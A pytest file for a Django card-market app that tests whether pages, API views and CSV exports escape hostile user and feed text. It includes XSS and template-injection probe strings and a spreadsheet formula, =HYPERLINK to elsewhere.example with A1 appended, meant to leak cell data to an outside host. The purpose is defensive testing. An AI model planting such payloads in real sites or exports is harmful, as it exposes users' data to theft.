"""What people and feeds write is shown as they wrote it, and does nothing."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.test import Client

from .conftest import HOSTILE, MARKS, World
from .pages import addresses_without_parameters, links_in, view_name, walk

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.usefixtures("world"),
]

ISLAND = re.compile(
    r'<script[^>]*type="application/json"[^>]*>(.*?)</script>', re.DOTALL
)
# Where a hostile text has to be seen, or the test looks at nothing.
SHOWN_TO_EVERYBODY = {
    "cards:detail",
    "cards:search",
    "market:movers",
    "market:sets",
    "market:set",
    "signals:board",
}
SHOWN_TO_ITS_OWNER = {
    "inventory:collection",
    "inventory:imports",
    "inventory:import",
    "preferences:tokens",
}
SHOWN_TO_STAFF = {"admin:cards_card_change", "admin:inventory_lot_changelist"}


def visited(client: Client) -> dict[str, str]:
    """The HTML of every kind of page, by the name of its route."""
    texts: dict[str, str] = {}

    def get(address: str) -> str | None:
        if address.startswith("/api/"):
            return None
        response = client.get(address)
        assert response.status_code < 500, address
        is_page = response.get("Content-Type", "").startswith("text/html")
        if response.status_code != 200 or not is_page:
            return None
        text = response.content.decode()
        texts[view_name(address)] = text
        return text

    walk(get)
    return texts


def marks_in(text: str) -> list[str]:
    return [mark for mark in MARKS if mark in text]


@pytest.mark.parametrize(
    ("who", "where"), [("owner", SHOWN_TO_ITS_OWNER), ("boss", SHOWN_TO_STAFF)]
)
def test_no_page_makes_markup_of_it(world: World, who, where):
    texts = visited(world.client(getattr(world, who)))

    assert {name for name, text in texts.items() if marks_in(text)} == set()
    shown = {name for name, text in texts.items() if "onerror=alert(1)" in text}
    assert SHOWN_TO_EVERYBODY | where <= shown
    # It is no template either.
    assert [name for name, text in texts.items() if "alert(2)&gt;49" in text] == []


def test_islands_of_data_hold_it_whole_and_closed(world: World):
    found = 0
    client = world.client(world.owner)
    for name, text in visited(client).items():
        for island in ISLAND.findall(text):
            json.loads(island)
            assert "<" not in island, name
            found += 1
    assert found > 0


def test_the_browsable_api_shows_it_as_text(world: World):
    client = world.client(world.owner)
    addresses = [one for one in addresses_without_parameters() if "/api/" in one]
    addresses.append(f"/api/cards/{world.card.pk}")
    shown = 0
    for address in addresses:
        response = client.get(address, headers={"accept": "text/html"})
        if response.streaming or not response["Content-Type"].startswith("text/html"):
            continue
        page = response.content.decode()
        assert marks_in(page) == [], address
        shown += "onerror=alert(1)" in page
    assert shown > 3


@pytest.mark.parametrize(
    "query", ["q", "set", "name", "next", "currency", "cards", "ordering", "page"]
)
def test_what_a_link_says_is_not_echoed_as_markup(world: World, query):
    client = world.client(world.owner)
    for address in addresses_without_parameters():
        response = client.get(address, {query: HOSTILE})
        if response.get("Content-Type", "").startswith("text/html"):
            assert marks_in(response.content.decode()) == [], address


class TestTables:
    FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")'
    SIGNS = ("=", "+", "-", "@", "\t", "\r")

    def test_no_cell_that_anybody_takes_away_is_a_formula(self, world: World):
        card = world.card
        card.name, card.card_set.name = self.FORMULA, f"@{self.FORMULA}"
        card.save()
        card.card_set.save()
        client = world.client(world.owner)
        files = self.files(client)
        assert len(files) >= 6

        seen = 0
        for address, text in files.items():
            for row in csv.reader(io.StringIO(text)):
                for cell in row:
                    assert not is_formula(cell), f"{address}: {cell}"
                    seen += "HYPERLINK" in cell
        assert seen >= 4

    def files(self, client: Client) -> dict[str, str]:
        """Every CSV file that a page offers, and those without parameters."""
        found: dict[str, str] = {}
        waiting = addresses_without_parameters()
        for text_of in visited(client).values():
            waiting += links_in(text_of, "/")
        for address in dict.fromkeys(waiting):
            path = address.partition("?")[0]
            if not path.rstrip("/").endswith(".csv") or path in found:
                continue
            response = client.get(address)
            if response.get("Content-Type", "").startswith("text/csv"):
                found[path] = b"".join(response).decode("utf-8-sig")
        return found


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute it; a number with a sign it only reads."""
    return cell.startswith(TestTables.SIGNS) and not re.fullmatch(
        r"[+-]?\d+(\.\d+)?%?", cell
    )
